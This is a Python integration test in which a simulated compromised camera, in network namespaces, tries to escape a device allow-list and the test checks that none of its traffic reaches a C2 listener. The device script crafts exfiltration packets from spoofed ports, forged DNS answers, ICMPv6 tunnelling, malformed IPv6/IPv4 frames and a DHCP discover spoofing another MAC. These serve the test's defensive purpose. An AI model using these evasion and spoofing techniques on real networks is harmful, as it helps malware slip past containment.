#!/usr/bin/env python3
"""A contained device tries every way out (docs/security.md): behind spin-agent
in network namespaces, a device under an allow-list of vendor.test gets its
lease, resolves through the resolver it was given and fetches from the vendor;
then, as a compromised camera would, it

  - sends UDP from source port 68 and 67, and TCP from source port 53, to a C2;
  - asks its own resolver (a rogue DNS server on the internet) for a vendor name;
  - forges, on the LAN side, the answer to a query it really sent, naming the C2;
  - sends ICMPv6 echo to the C2 (the C2's link-layer address set by hand, so the
    echo does leave the device);
  - sends an IPv6 frame with nine extension headers and an IPv4 frame whose
    options run past its length, both to the C2;
  - sends a DHCP discover in another device's name.

The oracle is outside SPIN: a sniffer on the WAN side records every frame from
the device, and each must be DHCP, DNS to the resolver dnsmasq gave, ARP, on-link
neighbour discovery or traffic with the vendor's server; the C2's listeners must
have received nothing.  The forged answer teaches the allow-list no address, the
DHCP discover is a dhcp_mismatch event, and afterwards the device still works.
Skips where namespaces cannot be created."""

import json
import os
import socket
import struct
import subprocess
import sys
import time

import netns
import spintest

DEVICE_MAC = "02:5e:00:00:00:31"
DNS_IP, WEB_IP, C2_IP, ROGUE_IP = "10.77.0.1", "10.77.0.2", "10.77.0.66", "10.77.0.53"
C2_IP6, DEVICE_IP6 = "fd77::66", "fd77::2"

SNIFFER = r"""
import socket, sys
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
s.bind(("eth0", 0))
device = bytes.fromhex(sys.argv[1].replace(":", ""))
out = open(sys.argv[2], "w")
while True:
    f = s.recv(65535)
    if f[6:12] == device:
        out.write(f.hex() + "\n")
        out.flush()
"""

C2 = r"""
import socket, sys, threading
out = open(sys.argv[1], "w")
lock = threading.Lock()
def note(what):
    with lock:
        out.write(what + "\n")
        out.flush()
def udp(port):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind(("10.77.0.66", port))
    while True:
        data, peer = s.recvfrom(2048)
        note(f"udp {port} from {peer}")
def tcp(port):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(("10.77.0.66", port))
    s.listen()
    while True:
        c, peer = s.accept()
        note(f"tcp {port} from {peer}")
        c.close()
for port in (443, 68, 8080):
    threading.Thread(target=udp, args=(port,), daemon=True).start()
for port in (443, 8080):
    threading.Thread(target=tcp, args=(port,), daemon=True).start()
threading.Event().wait()
"""

# What the device does from its namespace; each attack prints one JSON line.
DEVICE = netns.INET_CHECKSUM + r"""
import json, random, socket, struct, sys, time

C2, C2_6, DNS, ROGUE = "10.77.0.66", "fd77::66", "10.77.0.1", "10.77.0.53"
attack, args = sys.argv[1], sys.argv[2:]

def dns_query(name, qid):
    q = b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\x00"
    return struct.pack("!HHHHHH", qid, 0x0100, 1, 0, 0, 0) + q + struct.pack("!HH", 1, 1)

def ask(server, name, timeout=1.0):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(timeout)
    s.sendto(dns_query(name, random.randrange(65536)), (server, 53))
    try:
        return len(s.recv(512)) > 0
    except socket.timeout:
        return False

def udp_from(port, dst, dport):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(("0.0.0.0", port))
    for _ in range(5):
        s.sendto(b"exfiltrated", (dst, dport))
        time.sleep(0.02)

def tcp_from(port, dst, dport):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(("0.0.0.0", port))
    s.settimeout(1.5)
    try:
        s.connect((dst, dport))
        return True
    except OSError:
        return False

def raw(frame):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind(("eth0", 0))
    s.send(frame)

def mac(text):
    return bytes.fromhex(text.replace(":", ""))

if attack == "ports":
    udp_from(68, C2, 443)
    udp_from(67, C2, 68)
    print(json.dumps({"tcp_from_53": tcp_from(53, C2, 443)}))
elif attack == "rogue-resolver":
    print(json.dumps({"answered": ask(ROGUE, "api.vendor.test")}))
elif attack == "forged-answer":
    me, my_ip, gw = mac(args[0]), socket.inet_aton(args[1]), mac(args[2])
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind(("0.0.0.0", 0))
    port, qid = s.getsockname()[1], 0x5151
    query = dns_query("cdn.vendor.test", qid)
    s.sendto(query, (DNS, 53))
    # The answer the device writes itself: from the resolver, to its own port.
    answer = bytearray(query)
    answer[2:4] = b"\x81\x80"
    answer[6:8] = b"\x00\x01"
    answer += struct.pack("!HHHIH", 0xc00c, 1, 1, 300, 4) + socket.inet_aton(C2)
    udp = struct.pack("!HHHH", 53, port, 8 + len(answer), 0) + bytes(answer)
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0, socket.inet_aton(DNS), my_ip)
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    raw(me + gw + b"\x08\x00" + ip + udp)
    time.sleep(0.5)
    print(json.dumps({"c2_after_forgery": tcp_from(0, C2, 8080)}))
elif attack == "icmpv6-echo":
    s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
    s.settimeout(1.0)
    got = False
    for seq in range(3):
        s.sendto(struct.pack("!BBHHH", 128, 0, 0, 0x77, seq) + b"tunnelled", (C2_6, 0))
        try:
            got = got or s.recv(1500)[0] == 129
        except socket.timeout:
            pass
    print(json.dumps({"echo_reply": got}))
elif attack == "unparseable":
    me, c2_mac = mac(args[0]), mac(args[1])
    src6, dst6 = socket.inet_pton(socket.AF_INET6, "fd77::2"), socket.inet_pton(socket.AF_INET6, C2_6)
    # Nine destination-options headers, then UDP: more than any parser follows.
    payload = struct.pack("!HHHH", 40000, 443, 16, 0) + b"covert!!"
    for _ in range(9):
        payload = bytes([60 if _ else 17, 0]) + b"\x01\x04\0\0\0\0" + payload
    ip6 = struct.pack("!IHBB16s16s", 6 << 28, len(payload), 60, 64, src6, dst6)
    raw(c2_mac + me + b"\x86\xdd" + ip6 + payload)
    # IPv4 with a header length (60 bytes) past its total length (28).
    ip4 = struct.pack("!BBHHHBBH4s4s", 0x4f, 0, 28, 0, 0, 64, 17, 0, socket.inet_aton(args[2]), socket.inet_aton(C2))
    raw(c2_mac + me + b"\x08\x00" + ip4 + b"\x01" * 40 + b"covert!!")
    print(json.dumps({"sent": 2}))
elif attack == "dhcp-as-another":
    me, other = mac(args[0]), mac("02:5e:00:00:00:99")
    bootp = struct.pack("!BBBBIHH16s16s64s128s", 1, 1, 6, 0, 0x99, 0, 0x8000, bytes(16), other + bytes(10),
                        bytes(64), bytes(128)) + bytes([99, 130, 83, 99, 53, 1, 1, 255])
    udp = struct.pack("!HHHH", 68, 67, 8 + len(bootp), 0) + bootp
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0, bytes(4), b"\xff" * 4)
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    raw(b"\xff" * 6 + me + b"\x08\x00" + ip + udp)
    print(json.dumps({"sent": 1}))
"""


def read_lines(path):
    return open(path).read().split("\n")[:-1] if os.path.exists(path) else []


def spinctl(*args):
    p = subprocess.run([spintest.SPINCTL, *args], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, timeout=30)
    assert p.returncode == 0, f"spinctl {' '.join(args)}: {p.stderr}"
    return json.loads(p.stdout)


def allowed(frame, device_ip):
    """What the device may send out under its allow-list (docs/security.md), or None."""
    ethertype = struct.unpack("!H", frame[12:14])[0]
    if ethertype == 0x0806:
        return "arp"
    if ethertype == 0x0800:
        ihl = (frame[14] & 0x0f) * 4
        proto, dst = frame[23], socket.inet_ntoa(frame[30:34])
        if frame[14] >> 4 != 4 or ihl < 20 or len(frame) < 14 + ihl + 4:
            return None
        sport, dport = struct.unpack("!HH", frame[14 + ihl:18 + ihl])
        if proto == 17 and sport == 68 and dport == 67 and dst in ("255.255.255.255", DNS_IP):
            return "dhcp"
        if proto in (6, 17) and dst == DNS_IP and dport == 53:
            return "dns to the given resolver"
        if proto == 6 and dst == WEB_IP:
            return "the vendor's server"
        return None
    if ethertype == 0x86dd:
        nxt, dst, at = frame[20], frame[38:54], 54
        if nxt == 0 and len(frame) > at + 2:  # hop-by-hop options (MLD's router alert)
            nxt, at = frame[at], at + (frame[at + 1] + 1) * 8
        on_link = dst[0] == 0xff and dst[1] & 0x0f == 2 or dst[0] == 0xfe and dst[1] & 0xc0 == 0x80
        if nxt == 58 and len(frame) > at and frame[at] in (133, 134, 135, 136, 143) and on_link:
            return "on-link neighbour discovery / MLD"
        return None
    return None


def main():
    why = netns.can_create_namespaces()
    if why:
        spintest.skip(why)
    d = spintest.workdir("contained")
    device_py = os.path.join(d, "device.py")
    with open(device_py, "w") as f:
        f.write(DEVICE)
    with netns.Topology(d) as topo:
        for ip in (DNS_IP, WEB_IP, C2_IP, ROGUE_IP):
            netns.run("ip", "addr", "add", f"{ip}/24", "dev", "eth0", ns=topo.wan)
        netns.run("ip", "-6", "addr", "add", f"{C2_IP6}/64", "dev", "eth0", "nodad", ns=topo.wan)
        wan_mac = netns.run("cat", "/sys/class/net/eth0/address", ns=topo.wan).stdout.strip()
        www = os.path.join(d, "www")
        os.makedirs(www)
        with open(os.path.join(www, "index.html"), "w") as f:
            f.write("vendor cloud\n")
        sniffed, c2_log = os.path.join(d, "sniffed.hex"), os.path.join(d, "c2.log")
        topo.start([sys.executable, "-c", SNIFFER, DEVICE_MAC, sniffed], ns=topo.wan)
        topo.start([sys.executable, "-c", C2, c2_log], ns=topo.wan)
        # Two DNS servers on one interface: each binds its own address only.
        topo.start(["dnsmasq", "-k", "--conf-file=/dev/null", "--user=root", "--bind-interfaces",
                    "--listen-address", DNS_IP, "--dhcp-range=10.77.0.100,10.77.0.150,255.255.255.0,1h",
                    "--dhcp-authoritative", f"--dhcp-option=option:router,{DNS_IP}",
                    f"--dhcp-option=option:dns-server,{DNS_IP}", "--no-resolv", "--no-hosts",
                    f"--address=/vendor.test/{WEB_IP}", f"--dhcp-leasefile={d}/leases",
                    f"--pid-file={d}/dnsmasq.pid"], ns=topo.wan, log=os.path.join(d, "dnsmasq.log"))
        # The device's own resolver on the internet: every vendor name is the C2.
        topo.start(["dnsmasq", "-k", "--conf-file=/dev/null", "--user=root", "--listen-address", ROGUE_IP,
                    "--bind-interfaces", "--port=53", "--no-resolv", "--no-hosts", f"--address=/vendor.test/{C2_IP}",
                    f"--pid-file={d}/rogue.pid"], ns=topo.wan, log=os.path.join(d, "rogue.log"))
        topo.start([sys.executable, "-m", "http.server", "8080", "--bind", WEB_IP, "--directory", www],
                   ns=topo.wan, log=os.path.join(d, "http.log"))

        pub, cmd = f"tcp://127.0.0.1:{spintest.free_port()}", f"tcp://127.0.0.1:{spintest.free_port()}"
        events_log = os.path.join(d, "events.jsonl")
        agent = topo.start_agent("contained", pub, cmd, "--event-log", events_log)

        # The allow-list is in force before the device even has an address.
        netns.run("ip", "link", "set", "eth0", "address", DEVICE_MAC, ns=topo.lan)
        netns.run("ip", "-6", "addr", "add", f"{DEVICE_IP6}/64", "dev", "eth0", "nodad", ns=topo.lan)
        allow = spinctl("agent", "block", "--connect", cmd, "--mac", DEVICE_MAC, "--allow-domain", "vendor.test")
        assert allow["ok"], allow
        device_ip = topo.lease()
        # dhclient stays in the background holding port 68; the device's malware wants it.
        os.kill(int(open(os.path.join(d, "dhclient.pid")).read()), 15)

        def behaves():
            names = netns.run("getent", "hosts", "api.vendor.test", ns=topo.lan, check=False)
            assert names.returncode == 0 and WEB_IP in names.stdout, f"the given resolver failed: {names.stderr}"
            netns.wait_for("the allow-list to learn the vendor's address", lambda: spinctl(
                "agent", "rules", "--connect", cmd)["rules"][0].get("resolved", 0) >= 1)
            page = netns.run("curl", "-s", "-m", "3", "http://api.vendor.test:8080/", ns=topo.lan, check=False)
            assert page.returncode == 0 and "vendor cloud" in page.stdout, f"the vendor fetch failed: {page.stderr}"
        behaves()
        print(f"well-behaved: lease {device_ip} by DHCP, api.vendor.test through the given resolver, fetched")

        def attack(name, *args):
            out = netns.run(sys.executable, device_py, name, *args, ns=topo.lan, timeout=30)
            return json.loads(out.stdout)

        assert attack("ports") == {"tcp_from_53": False}
        assert attack("rogue-resolver") == {"answered": False}, "the rogue resolver answered through the allow-list"
        assert attack("forged-answer", DEVICE_MAC, device_ip, wan_mac) == {"c2_after_forgery": False}
        netns.run("ip", "-6", "neigh", "replace", C2_IP6, "lladdr", wan_mac, "dev", "eth0", ns=topo.lan)
        assert attack("icmpv6-echo") == {"echo_reply": False}, "ICMPv6 echo reached the C2 and came back"
        attack("unparseable", DEVICE_MAC, wan_mac, device_ip)
        attack("dhcp-as-another", DEVICE_MAC)
        time.sleep(1)

        rules = spinctl("agent", "rules", "--connect", cmd)["rules"]
        assert rules[0]["resolved"] == 1, f"the forged answer taught the allow-list an address: {rules}"
        c2 = read_lines(c2_log)
        assert not c2, f"the C2 heard from the device: {c2}"
        leaks, kinds = [], {}
        for line in read_lines(sniffed):
            frame = bytes.fromhex(line)
            why_ok = allowed(frame, device_ip)
            if why_ok is None:
                leaks.append(line[:160])
            else:
                kinds[why_ok] = kinds.get(why_ok, 0) + 1
        assert not leaks, f"{len(leaks)} frame(s) of the contained device reached the WAN side:\n" + "\n".join(leaks)
        events = [json.loads(x) for x in read_lines(events_log)]
        mismatch = [e for e in events if e["type"] == "dhcp_mismatch"]
        assert mismatch and mismatch[0]["mac"] == DEVICE_MAC and mismatch[0]["chaddr"] == "02:5e:00:00:00:99", events
        assert not any(e["type"] == "dhcp" and e["mac"] == "02:5e:00:00:00:99" for e in events)
        assert not any(C2_IP in json.dumps(e.get("bindings", [])) for e in events if e["type"] == "dns"), \
            "a DNS event bound a name to the C2"
        stats = spinctl("agent", "stats", "--connect", cmd)["stats"]
        assert stats["slowpath"]["dns"]["untrusted"] >= 1, stats["slowpath"]
        assert stats["counters"]["unparsed_blocked"] >= 2, stats["counters"]
        print(f"contained: nothing reached the C2; {sum(kinds.values())} frames out, all allowed "
              f"({', '.join(f'{k} {v}' for k, v in sorted(kinds.items()))}); forged answer ignored "
              f"({stats['slowpath']['dns']['untrusted']} untrusted); {stats['counters']['unparsed_blocked']} "
              "unparseable frames dropped; DHCP in another name reported")
        behaves()
        print("the device still works after its attempts")
        topo.stop_agent(agent)
    print("PASS: a contained device gets out only DHCP, DNS to its resolver, on-link ND and its allowed server")


if __name__ == "__main__":
    main()
